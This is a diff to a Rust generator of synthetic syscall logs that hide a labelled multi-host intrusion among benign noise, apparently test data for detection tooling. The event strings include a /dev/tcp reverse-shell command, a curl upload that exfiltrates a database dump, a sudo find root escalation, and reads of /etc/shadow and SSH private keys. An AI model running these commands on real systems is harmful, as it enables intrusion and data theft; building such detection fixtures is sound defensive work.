@@ -75,15 +75,28 @@ pub struct AttackStep {
     pub fd_name: String,
 }
 
-const HOSTS: [(&str, &str); 3] = [("web-01", "10.0.1.10"), ("app-01", "10.0.2.20"), ("db-01", "10.0.2.30")];
+const HOSTS: [(&str, &str); 3] = [
+    ("web-01", "10.0.1.10"),
+    ("app-01", "10.0.2.20"),
+    ("db-01", "10.0.2.30"),
+];
 /// db-01's clock runs ahead of the others.
 const DB_SKEW_MS: i64 = 2400;
 
 fn t0() -> DateTime<Utc> {
-    Utc.with_ymd_and_hms(2025, 7, 10, 1, 30, 0).single().expect("valid date")
+    Utc.with_ymd_and_hms(2025, 7, 10, 1, 30, 0)
+        .single()
+        .expect("valid date")
 }
 
-fn ev(host: &'static str, at: DateTime<Utc>, evt_type: &'static str, fd: &str, p: (u32, &str, &str), pp: (u32, &str, &str)) -> Ev {
+fn ev(
+    host: &'static str,
+    at: DateTime<Utc>,
+    evt_type: &'static str,
+    fd: &str,
+    p: (u32, &str, &str),
+    pp: (u32, &str, &str),
+) -> Ev {
     let args = match evt_type {
         "connect" | "accept" => format!("res=0 tuple={fd}"),
         "openat" => format!("fd=3({fd}) dirfd=-100(AT_FDCWD) name={fd} flags=1(O_RDONLY) mode=0"),
@@ -108,7 +121,10 @@ fn ev(host: &'static str, at: DateTime<Utc>, evt_type: &'static str, fd: &str, p
 }
 
 fn write_flags(mut e: Ev, flags: &str) -> Ev {
-    e.args = format!("fd=3({}) dirfd=-100(AT_FDCWD) name={} flags={flags} mode=0644", e.fd, e.fd);
+    e.args = format!(
+        "fd=3({}) dirfd=-100(AT_FDCWD) name={} flags={flags} mode=0644",
+        e.fd, e.fd
+    );
     e
 }
 
@@ -119,66 +135,469 @@ fn step(mut e: Ev, s: &'static str) -> Ev {
 
 /// The attack, in order, with its true times.
 fn attack() -> Vec<Ev> {
-    let at = |m: i64, s: i64, ms: i64| t0() + Duration::minutes(40 + m) + Duration::seconds(s) + Duration::milliseconds(ms);
+    let at = |m: i64, s: i64, ms: i64| {
+        t0() + Duration::minutes(40 + m) + Duration::seconds(s) + Duration::milliseconds(ms)
+    };
     let fpm = (1403, "php-fpm8.1", "php-fpm: pool www");
     let nginx = (1210, "nginx", "nginx: worker process");
     let shell_sh = (23011, "sh", "sh -c id");
-    let rev = (23030, "bash", "bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1");
+    let rev = (
+        23030,
+        "bash",
+        "bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
+    );
     let rev_p = (23030, "bash", "bash -i");
     let mut v = vec![
         // web-01: upload of the web shell
-        step(ev("web-01", at(0, 5, 120), "accept", "203.0.113.66:51514->10.0.1.10:443", nginx, (1200, "nginx", "nginx: master process /usr/sbin/nginx")), "initial_access"),
-        step(write_flags(ev("web-01", at(0, 5, 480), "openat", "/var/www/html/uploads/shell.php", fpm, (1, "systemd", "/sbin/init")), "O_WRONLY|O_CREAT|O_TRUNC"), "webshell_upload"),
-        step(ev("web-01", at(0, 6, 10), "write", "/var/www/html/uploads/shell.php", fpm, (1, "systemd", "/sbin/init")), "webshell_upload"),
+        step(
+            ev(
+                "web-01",
+                at(0, 5, 120),
+                "accept",
+                "203.0.113.66:51514->10.0.1.10:443",
+                nginx,
+                (1200, "nginx", "nginx: master process /usr/sbin/nginx"),
+            ),
+            "initial_access",
+        ),
+        step(
+            write_flags(
+                ev(
+                    "web-01",
+                    at(0, 5, 480),
+                    "openat",
+                    "/var/www/html/uploads/shell.php",
+                    fpm,
+                    (1, "systemd", "/sbin/init"),
+                ),
+                "O_WRONLY|O_CREAT|O_TRUNC",
+            ),
+            "webshell_upload",
+        ),
+        step(
+            ev(
+                "web-01",
+                at(0, 6, 10),
+                "write",
+                "/var/www/html/uploads/shell.php",
+                fpm,
+                (1, "systemd", "/sbin/init"),
+            ),
+            "webshell_upload",
+        ),
         // discovery through the shell
-        step(ev("web-01", at(1, 12, 0), "openat", "/etc/group", (23011, "id", "id"), shell_sh), "discovery"),
-        step(ev("web-01", at(1, 12, 2), "openat", "/etc/passwd", (23011, "id", "id"), shell_sh), "discovery"),
-        step(ev("web-01", at(1, 20, 0), "openat", "/proc/version", (23015, "uname", "uname -a"), (23014, "sh", "sh -c uname -a")), "discovery"),
-        step(ev("web-01", at(1, 31, 0), "openat", "/etc/passwd", (23018, "cat", "cat /etc/passwd"), (23017, "sh", "sh -c cat /etc/passwd")), "discovery"),
-        step(ev("web-01", at(1, 45, 0), "openat", "/var/www/html/config/database.php", (23021, "cat", "cat config/database.php"), (23020, "sh", "sh -c cat config/database.php")), "discovery"),
+        step(
+            ev(
+                "web-01",
+                at(1, 12, 0),
+                "openat",
+                "/etc/group",
+                (23011, "id", "id"),
+                shell_sh,
+            ),
+            "discovery",
+        ),
+        step(
+            ev(
+                "web-01",
+                at(1, 12, 2),
+                "openat",
+                "/etc/passwd",
+                (23011, "id", "id"),
+                shell_sh,
+            ),
+            "discovery",
+        ),
+        step(
+            ev(
+                "web-01",
+                at(1, 20, 0),
+                "openat",
+                "/proc/version",
+                (23015, "uname", "uname -a"),
+                (23014, "sh", "sh -c uname -a"),
+            ),
+            "discovery",
+        ),
+        step(
+            ev(
+                "web-01",
+                at(1, 31, 0),
+                "openat",
+                "/etc/passwd",
+                (23018, "cat", "cat /etc/passwd"),
+                (23017, "sh", "sh -c cat /etc/passwd"),
+            ),
+            "discovery",
+        ),
+        step(
+            ev(
+                "web-01",
+                at(1, 45, 0),
+                "openat",
+                "/var/www/html/config/database.php",
+                (23021, "cat", "cat config/database.php"),
+                (23020, "sh", "sh -c cat config/database.php"),
+            ),
+            "discovery",
+        ),
         // reverse shell
-        step(ev("web-01", at(2, 41, 512), "connect", "10.0.1.10:40522->203.0.113.66:4444", rev, fpm), "reverse_shell"),
-        step(ev("web-01", at(2, 41, 600), "openat", "/dev/tty", rev, fpm), "reverse_shell"),
+        step(
+            ev(
+                "web-01",
+                at(2, 41, 512),
+                "connect",
+                "10.0.1.10:40522->203.0.113.66:4444",
+                rev,
+                fpm,
+            ),
+            "reverse_shell",
+        ),
+        step(
+            ev("web-01", at(2, 41, 600), "openat", "/dev/tty", rev, fpm),
+            "reverse_shell",
+        ),
         // key theft
-        step(ev("web-01", at(4, 2, 0), "openat", "/home/deploy/.ssh/id_rsa", (23042, "cat", "cat /home/deploy/.ssh/id_rsa"), rev_p), "credential_access"),
-        step(ev("web-01", at(4, 30, 0), "openat", "/home/deploy/.ssh/id_rsa", (23045, "ssh", "ssh -i /home/deploy/.ssh/id_rsa deploy@10.0.2.20"), rev_p), "lateral_movement"),
-        step(ev("web-01", at(4, 30, 200), "connect", "10.0.1.10:53312->10.0.2.20:22", (23045, "ssh", "ssh -i /home/deploy/.ssh/id_rsa deploy@10.0.2.20"), rev_p), "lateral_movement"),
+        step(
+            ev(
+                "web-01",
+                at(4, 2, 0),
+                "openat",
+                "/home/deploy/.ssh/id_rsa",
+                (23042, "cat", "cat /home/deploy/.ssh/id_rsa"),
+                rev_p,
+            ),
+            "credential_access",
+        ),
+        step(
+            ev(
+                "web-01",
+                at(4, 30, 0),
+                "openat",
+                "/home/deploy/.ssh/id_rsa",
+                (
+                    23045,
+                    "ssh",
+                    "ssh -i /home/deploy/.ssh/id_rsa deploy@10.0.2.20",
+                ),
+                rev_p,
+            ),
+            "lateral_movement",
+        ),
+        step(
+            ev(
+                "web-01",
+                at(4, 30, 200),
+                "connect",
+                "10.0.1.10:53312->10.0.2.20:22",
+                (
+                    23045,
+                    "ssh",
+                    "ssh -i /home/deploy/.ssh/id_rsa deploy@10.0.2.20",
+                ),
+                rev_p,
+            ),
+            "lateral_movement",
+        ),
     ];
     let sshd_app = (31200, "sshd", "sshd: deploy [priv]");
     let deploy_bash = (31230, "bash", "-bash");
     let root_sh = (31260, "sh", "/bin/sh -p");
     let find = (31255, "find", "find . -exec /bin/sh -p ; -quit");
     v.extend([
-        step(ev("app-01", at(4, 30, 230), "accept", "10.0.1.10:53312->10.0.2.20:22", (880, "sshd", "/usr/sbin/sshd -D"), (1, "systemd", "/sbin/init")), "lateral_movement"),
-        step(ev("app-01", at(4, 31, 0), "openat", "/home/deploy/.bashrc", deploy_bash, sshd_app), "lateral_movement"),
-        step(ev("app-01", at(6, 0, 0), "openat", "/etc/sudoers", (31250, "sudo", "sudo find . -exec /bin/sh -p ; -quit"), deploy_bash), "privilege_escalation"),
-        step(ev("app-01", at(6, 0, 300), "openat", "/home/deploy", find, (31250, "sudo", "sudo find . -exec /bin/sh -p ; -quit")), "privilege_escalation"),
-        step(ev("app-01", at(6, 0, 420), "openat", "/etc/ld.so.cache", root_sh, find), "privilege_escalation"),
-        step(ev("app-01", at(7, 10, 0), "openat", "/etc/shadow", (31270, "cat", "cat /etc/shadow"), root_sh), "credential_access"),
-        step(write_flags(ev("app-01", at(8, 0, 0), "openat", "/etc/cron.d/sysupdate", root_sh, find), "O_WRONLY|O_CREAT|O_TRUNC"), "persistence_cron"),
-        step(ev("app-01", at(8, 0, 5), "write", "/etc/cron.d/sysupdate", root_sh, find), "persistence_cron"),
-        step(write_flags(ev("app-01", at(8, 20, 0), "openat", "/root/.ssh/authorized_keys", root_sh, find), "O_WRONLY|O_APPEND|O_CREAT"), "persistence_ssh_key"),
-        step(ev("app-01", at(8, 20, 3), "write", "/root/.ssh/authorized_keys", root_sh, find), "persistence_ssh_key"),
-        step(write_flags(ev("app-01", at(8, 45, 0), "openat", "/etc/systemd/system/sysupdate.service", (31290, "tee", "tee /etc/systemd/system/sysupdate.service"), root_sh), "O_WRONLY|O_CREAT|O_TRUNC"), "persistence_systemd"),
-        step(ev("app-01", at(8, 45, 4), "write", "/etc/systemd/system/sysupdate.service", (31290, "tee", "tee /etc/systemd/system/sysupdate.service"), root_sh), "persistence_systemd"),
-        step(ev("app-01", at(10, 0, 0), "connect", "10.0.2.20:41822->10.0.2.30:22", (31310, "ssh", "ssh root@10.0.2.30"), root_sh), "lateral_movement"),
+        step(
+            ev(
+                "app-01",
+                at(4, 30, 230),
+                "accept",
+                "10.0.1.10:53312->10.0.2.20:22",
+                (880, "sshd", "/usr/sbin/sshd -D"),
+                (1, "systemd", "/sbin/init"),
+            ),
+            "lateral_movement",
+        ),
+        step(
+            ev(
+                "app-01",
+                at(4, 31, 0),
+                "openat",
+                "/home/deploy/.bashrc",
+                deploy_bash,
+                sshd_app,
+            ),
+            "lateral_movement",
+        ),
+        step(
+            ev(
+                "app-01",
+                at(6, 0, 0),
+                "openat",
+                "/etc/sudoers",
+                (31250, "sudo", "sudo find . -exec /bin/sh -p ; -quit"),
+                deploy_bash,
+            ),
+            "privilege_escalation",
+        ),
+        step(
+            ev(
+                "app-01",
+                at(6, 0, 300),
+                "openat",
+                "/home/deploy",
+                find,
+                (31250, "sudo", "sudo find . -exec /bin/sh -p ; -quit"),
+            ),
+            "privilege_escalation",
+        ),
+        step(
+            ev(
+                "app-01",
+                at(6, 0, 420),
+                "openat",
+                "/etc/ld.so.cache",
+                root_sh,
+                find,
+            ),
+            "privilege_escalation",
+        ),
+        step(
+            ev(
+                "app-01",
+                at(7, 10, 0),
+                "openat",
+                "/etc/shadow",
+                (31270, "cat", "cat /etc/shadow"),
+                root_sh,
+            ),
+            "credential_access",
+        ),
+        step(
+            write_flags(
+                ev(
+                    "app-01",
+                    at(8, 0, 0),
+                    "openat",
+                    "/etc/cron.d/sysupdate",
+                    root_sh,
+                    find,
+                ),
+                "O_WRONLY|O_CREAT|O_TRUNC",
+            ),
+            "persistence_cron",
+        ),
+        step(
+            ev(
+                "app-01",
+                at(8, 0, 5),
+                "write",
+                "/etc/cron.d/sysupdate",
+                root_sh,
+                find,
+            ),
+            "persistence_cron",
+        ),
+        step(
+            write_flags(
+                ev(
+                    "app-01",
+                    at(8, 20, 0),
+                    "openat",
+                    "/root/.ssh/authorized_keys",
+                    root_sh,
+                    find,
+                ),
+                "O_WRONLY|O_APPEND|O_CREAT",
+            ),
+            "persistence_ssh_key",
+        ),
+        step(
+            ev(
+                "app-01",
+                at(8, 20, 3),
+                "write",
+                "/root/.ssh/authorized_keys",
+                root_sh,
+                find,
+            ),
+            "persistence_ssh_key",
+        ),
+        step(
+            write_flags(
+                ev(
+                    "app-01",
+                    at(8, 45, 0),
+                    "openat",
+                    "/etc/systemd/system/sysupdate.service",
+                    (31290, "tee", "tee /etc/systemd/system/sysupdate.service"),
+                    root_sh,
+                ),
+                "O_WRONLY|O_CREAT|O_TRUNC",
+            ),
+            "persistence_systemd",
+        ),
+        step(
+            ev(
+                "app-01",
+                at(8, 45, 4),
+                "write",
+                "/etc/systemd/system/sysupdate.service",
+                (31290, "tee", "tee /etc/systemd/system/sysupdate.service"),
+                root_sh,
+            ),
+            "persistence_systemd",
+        ),
+        step(
+            ev(
+                "app-01",
+                at(10, 0, 0),
+                "connect",
+                "10.0.2.20:41822->10.0.2.30:22",
+                (31310, "ssh", "ssh root@10.0.2.30"),
+                root_sh,
+            ),
+            "lateral_movement",
+        ),
     ]);
     let db_bash = (44120, "bash", "-bash");
-    let dump = (44150, "mysqldump", "mysqldump --all-databases --single-transaction");
+    let dump = (
+        44150,
+        "mysqldump",
+        "mysqldump --all-databases --single-transaction",
+    );
     let tar = (44160, "tar", "tar czf /tmp/.x/db.tgz /tmp/.x/db.sql");
-    let curl = (44170, "curl", "curl -k -T /tmp/.x/db.tgz https://198.51.100.23/upload");
+    let curl = (
+        44170,
+        "curl",
+        "curl -k -T /tmp/.x/db.tgz https://198.51.100.23/upload",
+    );
     v.extend([
-        step(ev("db-01", at(10, 0, 30), "accept", "10.0.2.20:41822->10.0.2.30:22", (910, "sshd", "/usr/sbin/sshd -D"), (1, "systemd", "/sbin/init")), "lateral_movement"),
-        step(ev("db-01", at(11, 0, 0), "connect", "/run/mysqld/mysqld.sock", dump, db_bash), "collection"),
-        step(write_flags(ev("db-01", at(11, 0, 100), "openat", "/tmp/.x/db.sql", dump, db_bash), "O_WRONLY|O_CREAT|O_TRUNC"), "collection"),
-        step(ev("db-01", at(11, 40, 0), "write", "/tmp/.x/db.sql", dump, db_bash), "collection"),
-        step(ev("db-01", at(12, 10, 0), "openat", "/tmp/.x/db.sql", tar, db_bash), "staging"),
-        step(write_flags(ev("db-01", at(12, 10, 5), "openat", "/tmp/.x/db.tgz", tar, db_bash), "O_WRONLY|O_CREAT|O_TRUNC"), "staging"),
-        step(ev("db-01", at(13, 0, 0), "openat", "/tmp/.x/db.tgz", curl, db_bash), "exfiltration"),
-        step(ev("db-01", at(13, 0, 80), "connect", "10.0.2.30:50122->198.51.100.23:443", curl, db_bash), "exfiltration"),
-        step(ev("db-01", at(13, 20, 0), "write", "10.0.2.30:50122->198.51.100.23:443", curl, db_bash), "exfiltration"),
-        step(ev("db-01", at(14, 0, 0), "unlinkat", "/tmp/.x/db.sql", (44190, "rm", "rm -rf /tmp/.x"), db_bash), "defense_evasion"),
-        step(ev("db-01", at(14, 0, 1), "unlinkat", "/tmp/.x/db.tgz", (44190, "rm", "rm -rf /tmp/.x"), db_bash), "defense_evasion"),
+        step(
+            ev(
+                "db-01",
+                at(10, 0, 30),
+                "accept",
+                "10.0.2.20:41822->10.0.2.30:22",
+                (910, "sshd", "/usr/sbin/sshd -D"),
+                (1, "systemd", "/sbin/init"),
+            ),
+            "lateral_movement",
+        ),
+        step(
+            ev(
+                "db-01",
+                at(11, 0, 0),
+                "connect",
+                "/run/mysqld/mysqld.sock",
+                dump,
+                db_bash,
+            ),
+            "collection",
+        ),
+        step(
+            write_flags(
+                ev(
+                    "db-01",
+                    at(11, 0, 100),
+                    "openat",
+                    "/tmp/.x/db.sql",
+                    dump,
+                    db_bash,
+                ),
+                "O_WRONLY|O_CREAT|O_TRUNC",
+            ),
+            "collection",
+        ),
+        step(
+            ev(
+                "db-01",
+                at(11, 40, 0),
+                "write",
+                "/tmp/.x/db.sql",
+                dump,
+                db_bash,
+            ),
+            "collection",
+        ),
+        step(
+            ev(
+                "db-01",
+                at(12, 10, 0),
+                "openat",
+                "/tmp/.x/db.sql",
+                tar,
+                db_bash,
+            ),
+            "staging",
+        ),
+        step(
+            write_flags(
+                ev(
+                    "db-01",
+                    at(12, 10, 5),
+                    "openat",
+                    "/tmp/.x/db.tgz",
+                    tar,
+                    db_bash,
+                ),
+                "O_WRONLY|O_CREAT|O_TRUNC",
+            ),
+            "staging",
+        ),
+        step(
+            ev(
+                "db-01",
+                at(13, 0, 0),
+                "openat",
+                "/tmp/.x/db.tgz",
+                curl,
+                db_bash,
+            ),
+            "exfiltration",
+        ),
+        step(
+            ev(
+                "db-01",
+                at(13, 0, 80),
+                "connect",
+                "10.0.2.30:50122->198.51.100.23:443",
+                curl,
+                db_bash,
+            ),
+            "exfiltration",
+        ),
+        step(
+            ev(
+                "db-01",
+                at(13, 20, 0),
+                "write",
+                "10.0.2.30:50122->198.51.100.23:443",
+                curl,
+                db_bash,
+            ),
+            "exfiltration",
+        ),
+        step(
+            ev(
+                "db-01",
+                at(14, 0, 0),
+                "unlinkat",
+                "/tmp/.x/db.sql",
+                (44190, "rm", "rm -rf /tmp/.x"),
+                db_bash,
+            ),
+            "defense_evasion",
+        ),
+        step(
+            ev(
+                "db-01",
+                at(14, 0, 1),
+                "unlinkat",
+                "/tmp/.x/db.tgz",
+                (44190, "rm", "rm -rf /tmp/.x"),
+                db_bash,
+            ),
+            "defense_evasion",
+        ),
     ]);
     v
 }
@@ -187,11 +606,24 @@ fn attack() -> Vec<Ev> {
 fn noise_event(rng: &mut Rng, host: &'static str, ip: &str, at: DateTime<Utc>) -> Ev {
     let init = (1, "systemd", "/sbin/init");
     let cron = (640, "cron", "/usr/sbin/cron -f");
+    // Benign look-alikes of attack steps, rare.
+    if rng.chance(300) {
+        return ev(
+            host,
+            at,
+            "openat",
+            "/etc/shadow",
+            (
+                5000 + rng.below(30000) as u32,
+                "unix_chkpwd",
+                "/sbin/unix_chkpwd deploy nullok",
+            ),
+            (880, "sshd", "sshd: deploy [priv]"),
+        );
+    }
     let r = rng.below(100);
     match (host, r) {
-        // benign look-alikes first, rare
-        (_, 0) => ev(host, at, "openat", "/etc/shadow", (5000 + rng.below(30000) as u32, "unix_chkpwd", "/sbin/unix_chkpwd deploy nullok"), (880, "sshd", "sshd: deploy [priv]")),
-        ("app-01", 1) => write_flags(ev(host, at, "openat", "/etc/cron.d/ansible_logrotate", (7000 + rng.below(500) as u32, "python3", "/usr/bin/python3 /root/.ansible/tmp/AnsiballZ_cron.py"), (6990, "sh", "/bin/sh -c sudo -H -S -n -u root /bin/sh -c 'echo BECOME-SUCCESS; /usr/bin/python3'")), "O_WRONLY|O_CREAT|O_TRUNC"),
+        ("app-01", 1) if rng.below(20) == 0 => write_flags(ev(host, at, "openat", "/etc/cron.d/ansible_logrotate", (7000 + rng.below(500) as u32, "python3", "/usr/bin/python3 /root/.ansible/tmp/AnsiballZ_cron.py"), (6990, "sh", "/bin/sh -c sudo -H -S -n -u root /bin/sh -c 'echo BECOME-SUCCESS; /usr/bin/python3'")), "O_WRONLY|O_CREAT|O_TRUNC"),
         (_, 2..=4) => ev(host, at, "openat", "/usr/local/bin/healthcheck.sh", (9000 + rng.below(20000) as u32, "sh", "/bin/sh -c /usr/local/bin/healthcheck.sh"), cron),
         ("web-01", 5..=59) => {
             let client = format!("198.18.{}.{}:{}", rng.below(200), 1 + rng.below(250), 30000 + rng.below(30000));
@@ -244,18 +676,92 @@ fn noise_event(rng: &mut Rng, host: &'static str, ip: &str, at: DateTime<Utc>) -
 fn nightly_backup() -> Vec<Ev> {
     let at = |s: i64| t0() + Duration::minutes(30) + Duration::seconds(s);
     let script = (52000, "backup.sh", "/bin/bash /usr/local/sbin/backup.sh");
-    let dump = (52010, "mysqldump", "mysqldump --all-databases --single-transaction");
-    let tar = (52020, "tar", "tar czf /backup/nightly/db-2025-07-10.tgz /backup/nightly/db-2025-07-10.sql");
-    let rsync = (52030, "rsync", "rsync -a /backup/nightly/ backup@10.0.3.5::nightly");
+    let dump = (
+        52010,
+        "mysqldump",
+        "mysqldump --all-databases --single-transaction",
+    );
+    let tar = (
+        52020,
+        "tar",
+        "tar czf /backup/nightly/db-2025-07-10.tgz /backup/nightly/db-2025-07-10.sql",
+    );
+    let rsync = (
+        52030,
+        "rsync",
+        "rsync -a /backup/nightly/ backup@10.0.3.5::nightly",
+    );
     vec![
-        ev("db-01", at(0), "openat", "/usr/local/sbin/backup.sh", script, (640, "cron", "/usr/sbin/cron -f")),
-        ev("db-01", at(1), "connect", "/run/mysqld/mysqld.sock", dump, script),
-        write_flags(ev("db-01", at(2), "openat", "/backup/nightly/db-2025-07-10.sql", dump, script), "O_WRONLY|O_CREAT|O_TRUNC"),
-        ev("db-01", at(40), "write", "/backup/nightly/db-2025-07-10.sql", dump, script),
-        ev("db-01", at(70), "openat", "/backup/nightly/db-2025-07-10.sql", tar, script),
-        write_flags(ev("db-01", at(71), "openat", "/backup/nightly/db-2025-07-10.tgz", tar, script), "O_WRONLY|O_CREAT|O_TRUNC"),
-        ev("db-01", at(120), "connect", "10.0.2.30:48810->10.0.3.5:873", rsync, script),
-        ev("db-01", at(121), "write", "10.0.2.30:48810->10.0.3.5:873", rsync, script),
+        ev(
+            "db-01",
+            at(0),
+            "openat",
+            "/usr/local/sbin/backup.sh",
+            script,
+            (640, "cron", "/usr/sbin/cron -f"),
+        ),
+        ev(
+            "db-01",
+            at(1),
+            "connect",
+            "/run/mysqld/mysqld.sock",
+            dump,
+            script,
+        ),
+        write_flags(
+            ev(
+                "db-01",
+                at(2),
+                "openat",
+                "/backup/nightly/db-2025-07-10.sql",
+                dump,
+                script,
+            ),
+            "O_WRONLY|O_CREAT|O_TRUNC",
+        ),
+        ev(
+            "db-01",
+            at(40),
+            "write",
+            "/backup/nightly/db-2025-07-10.sql",
+            dump,
+            script,
+        ),
+        ev(
+            "db-01",
+            at(70),
+            "openat",
+            "/backup/nightly/db-2025-07-10.sql",
+            tar,
+            script,
+        ),
+        write_flags(
+            ev(
+                "db-01",
+                at(71),
+                "openat",
+                "/backup/nightly/db-2025-07-10.tgz",
+                tar,
+                script,
+            ),
+            "O_WRONLY|O_CREAT|O_TRUNC",
+        ),
+        ev(
+            "db-01",
+            at(120),
+            "connect",
+            "10.0.2.30:48810->10.0.3.5:873",
+            rsync,
+            script,
+        ),
+        ev(
+            "db-01",
+            at(121),
+            "write",
+            "10.0.2.30:48810->10.0.3.5:873",
+            rsync,
+            script,
+        ),
     ]
 }
 
@@ -296,11 +802,30 @@ fn build(cfg: &Config) -> (Vec<(String, String)>, Vec<AttackStep>) {
     // db-01's collector is down for 90 s: nothing from it in that window.
     let gap_from = t0() + Duration::minutes(70);
     let gap_to = gap_from + Duration::seconds(90);
-    events.retain(|e| !(e.host == "db-01" && e.at >= gap_from && e.at < gap_to && e.step.is_none()));
+    events
+        .retain(|e| !(e.host == "db-01" && e.at >= gap_from && e.at < gap_to && e.step.is_none()));
     // A reused PID: a benign process held 23030 on web-01 an hour before the reverse shell.
-    events.push(ev("web-01", t0() + Duration::minutes(5), "openat", "/var/log/nginx/access.log.1", (23030, "logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"), (640, "cron", "/usr/sbin/cron -f")));
+    events.push(ev(
+        "web-01",
+        t0() + Duration::minutes(5),
+        "openat",
+        "/var/log/nginx/access.log.1",
+        (
+            23030,
+            "logrotate",
+            "/usr/sbin/logrotate /etc/logrotate.conf",
+        ),
+        (640, "cron", "/usr/sbin/cron -f"),
+    ));
     // Shell metacharacters that break `-p` output: quotes and a newline in command lines.
-    events.push(ev("app-01", t0() + Duration::minutes(20), "openat", "/tmp/report.txt", (8800, "sh", "sh -c echo \"disk ok\" > /tmp/report.txt"), (640, "cron", "/usr/sbin/cron -f")));
+    events.push(ev(
+        "app-01",
+        t0() + Duration::minutes(20),
+        "openat",
+        "/tmp/report.txt",
+        (8800, "sh", "sh -c echo \"disk ok\" > /tmp/report.txt"),
+        (640, "cron", "/usr/sbin/cron -f"),
+    ));
     events.sort_by_key(|e| e.at);
 
     let restart_at = t0() + Duration::minutes(75);
@@ -309,14 +834,21 @@ fn build(cfg: &Config) -> (Vec<(String, String)>, Vec<AttackStep>) {
     let mut out = Vec::with_capacity(events.len() + events.len() / 1000);
     let mut key = Vec::new();
     for e in &events {
-        let h = HOSTS.iter().position(|(n, _)| *n == e.host).expect("known host");
+        let h = HOSTS
+            .iter()
+            .position(|(n, _)| *n == e.host)
+            .expect("known host");
         // app-01's collector restarts: evt.num starts again at 1.
         if h == 1 && !restarted && e.at >= restart_at {
             evt_nums[1] = 0;
             restarted = true;
         }
         evt_nums[h] += 1 + rng.below(3);
-        let skew = if e.host == "db-01" { Duration::milliseconds(DB_SKEW_MS) } else { Duration::zero() };
+        let skew = if e.host == "db-01" {
+            Duration::milliseconds(DB_SKEW_MS)
+        } else {
+            Duration::zero()
+        };
         let event_time = e.at + skew + Duration::nanoseconds(rng.below(1_000_000) as i64);
         let mut payload = render_template(e, evt_nums[h], event_time);
         if let Some(s) = e.step {
@@ -329,7 +861,11 @@ fn build(cfg: &Config) -> (Vec<(String, String)>, Vec<AttackStep>) {
             });
         } else if rng.chance(800) {
             // An unescaped quote inside a command line (repairable).
-            payload = payload.replacen("\"proc.cmdline\":\"", "\"proc.cmdline\":\"sh -c \"quoted\" ", 1);
+            payload = payload.replacen(
+                "\"proc.cmdline\":\"",
+                "\"proc.cmdline\":\"sh -c \"quoted\" ",
+                1,
+            );
         } else if rng.chance(150) {
             // A newline inside the arguments (repairable).
             payload = payload.replacen("res=", "res=\n", 1);
@@ -368,7 +904,13 @@ fn build(cfg: &Config) -> (Vec<(String, String)>, Vec<AttackStep>) {
 pub fn write_ndjson(cfg: &Config, w: &mut dyn Write) -> io::Result<u64> {
     let (lines, _) = build(cfg);
     for (subject, payload) in &lines {
-        serde_json::to_writer(&mut *w, &PublishLine { subject: subject.clone(), payload })?;
+        serde_json::to_writer(
+            &mut *w,
+            &PublishLine {
+                subject: subject.clone(),
+                payload,
+            },
+        )?;
         w.write_all(b"\n")?;
     }
     Ok(lines.len() as u64)
@@ -386,7 +928,10 @@ mod tests {
 
     #[test]
     fn deterministic_and_mostly_noise() {
-        let cfg = Config { noise: 50_000, seed: 7 };
+        let cfg = Config {
+            noise: 50_000,
+            seed: 7,
+        };
         let (a, key) = build(&cfg);
         let (b, _) = build(&cfg);
         assert_eq!(a, b);
@@ -395,6 +940,9 @@ mod tests {
         let statuses: Vec<Status> = a.iter().map(|(_, p)| decode(p.as_bytes()).status).collect();
         let invalid = statuses.iter().filter(|s| **s == Status::Invalid).count();
         let repaired = statuses.iter().filter(|s| **s == Status::Repaired).count();
-        assert!(invalid > 0 && repaired > 0, "invalid {invalid} repaired {repaired}");
+        assert!(
+            invalid > 0 && repaired > 0,
+            "invalid {invalid} repaired {repaired}"
+        );
     }
 }
